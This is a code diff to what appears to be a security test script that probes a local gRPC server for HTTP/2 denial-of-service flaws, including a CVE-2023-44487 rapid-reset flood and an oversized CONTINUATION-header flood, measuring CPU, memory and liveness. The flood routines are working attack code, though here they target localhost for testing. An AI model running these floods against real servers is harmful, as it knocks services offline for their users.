@@ -29,7 +29,7 @@ import grpc
 from security_common import Normd, code_of, raw_unary
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x1, 0x3, 0x4, 0x9
+HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
 END_STREAM, END_HEADERS = 0x1, 0x4
 CANCEL = 0x8
 
@@ -76,8 +76,9 @@ class Conn:
     def __init__(self, port):
         self.sock = socket.create_connection(("127.0.0.1", port))
         self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
-        self.received = 0
+        self.data = b""  # the last bytes received
         self.closed = False
+        self.cv = threading.Condition()
         threading.Thread(target=self._drain, daemon=True).start()
 
     def _drain(self):
@@ -86,10 +87,27 @@ class Conn:
                 data = self.sock.recv(1 << 16)
                 if not data:
                     break
-                self.received += len(data)
+                with self.cv:
+                    self.data = (self.data + data)[-(1 << 16):]
+                    self.cv.notify_all()
         except OSError:
             pass
-        self.closed = True
+        with self.cv:
+            self.closed = True
+            self.cv.notify_all()
+
+    def sync(self, timeout):
+        """Sends a PING and waits for its ACK: the server has processed every frame before it.
+        False when the connection closed or the ACK did not come in time."""
+        opaque = os.urandom(8)
+        try:
+            self.send(frame(PING, 0, 0, opaque))
+        except OSError:
+            return False
+        ack = frame(PING, 0x1, 0, opaque)
+        with self.cv:
+            return self.cv.wait_for(lambda: ack in self.data or self.closed, timeout) and \
+                not self.closed
 
     def send(self, data):
         self.sock.sendall(data)
@@ -156,19 +174,22 @@ def probe_33953(size_mib):
             begin = time.monotonic()
             try:
                 while sent < value_len and not c.closed:
-                    c.send(frame(CONTINUATION, 0, 1, chunk))
+                    last = sent + len(chunk) >= value_len
+                    c.send(frame(CONTINUATION, END_HEADERS if last else 0, 1, chunk))
                     sent += len(chunk)
                     if sent % (8 << 20) == 0:
                         peak = max(peak, rss_mib(pid))
             except OSError:
                 pass
+            synced = c.sync(timeout=300)
             peak = max(peak, rss_mib(pid))
             elapsed = time.monotonic() - begin
             c.close()
             alive, code = alive_and_serving(server)
             cpu = cpu_seconds(pid) - cpu0
             print(f"  {' '.join(args) or 'defaults'}: accepted {sent >> 20} MiB of one header "
-                  f"before {'closing' if c.closed else 'the end'} in {elapsed:.1f} s, normd "
+                  f"{'and processed it' if synced else 'then the connection closed'} in "
+                  f"{elapsed:.1f} s, normd "
                   f"CPU {cpu:.1f} s; RSS {before:.0f} -> peak {peak:.0f} MiB; alive={alive}, "
                   f"next call {code.name}")
     print("  HPACK integer padded with 1 MB of zero continuation bytes:")
@@ -211,42 +232,49 @@ def _summary(calls):
             f"{len(failed)} failed{' (' + ', '.join(sorted(set(failed))) + ')' if failed else ''}")
 
 
+def _rapid_reset(port, seconds, result):
+    """Opens and resets ListModels streams on one connection for `seconds`; puts
+    (streams sent, closed by the server) into `result`. Runs in its own process, so the
+    measuring client in the parent shares no interpreter lock with it."""
+    block = request_block("/normd.v1.Trainer/ListModels")
+    c = Conn(port)
+    stream, sent, end = 1, 0, time.monotonic() + seconds
+    try:
+        while time.monotonic() < end and not c.closed:
+            batch = []
+            for _ in range(100):
+                batch.append(frame(HEADERS, END_HEADERS, stream, block))
+                batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+                stream += 2
+            c.send(b"".join(batch))
+            sent += 100
+    except OSError:
+        pass
+    result.put((sent, c.closed))
+    c.close()
+
+
 def probe_44487(seconds):
+    import multiprocessing
     print(f"\n== CVE-2023-44487: rapid reset from one connection, {seconds} s per setting")
     for args in ([], ["--max-concurrent-streams", "1"], ["--auth-token-file", "TOKENS"]):
         with Normd(*[a if a != "TOKENS" else TOKEN_FILE for a in args]) as server:
             pid = server.proc.pid
             idle = _latencies_ms(server, seconds)
-            block = request_block("/normd.v1.Trainer/ListModels")
-            c = Conn(server.port)
-            counts = {"sent": 0}
-
-            def attack():
-                stream, end = 1, time.monotonic() + seconds
-                try:
-                    while time.monotonic() < end and not c.closed:
-                        batch = []
-                        for _ in range(100):
-                            batch.append(frame(HEADERS, END_HEADERS, stream, block))
-                            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
-                            stream += 2
-                        c.send(b"".join(batch))
-                        counts["sent"] += 100
-                except OSError:
-                    pass
-
+            result = multiprocessing.Queue()
+            attacker = multiprocessing.Process(target=_rapid_reset,
+                                               args=(server.port, seconds, result))
             cpu0, wall0 = cpu_seconds(pid), time.monotonic()
-            attacker = threading.Thread(target=attack)
             attacker.start()
             busy = _latencies_ms(server, seconds)
+            sent, closed = result.get(timeout=60)
             attacker.join()
             wall = time.monotonic() - wall0
             cpu = cpu_seconds(pid) - cpu0
-            c.close()
             alive, code = alive_and_serving(server)
             print(f"  {' '.join(args).replace(TOKEN_FILE, 'FILE') or 'defaults'}: "
-                  f"{counts['sent'] / wall:,.0f} streams opened+reset per s; normd "
-                  f"{cpu / wall:.2f} CPU-s/s; attacker closed by server={c.closed}; alive="
+                  f"{sent / seconds:,.0f} streams opened+reset per s; normd "
+                  f"{cpu / wall:.2f} CPU-s/s; attacker closed by server={closed}; alive="
                   f"{alive}, next call {code.name}\n    another client's ListModels (5 s "
                   f"deadline), before: {_summary(idle)}\n    during: {_summary(busy)}")
 
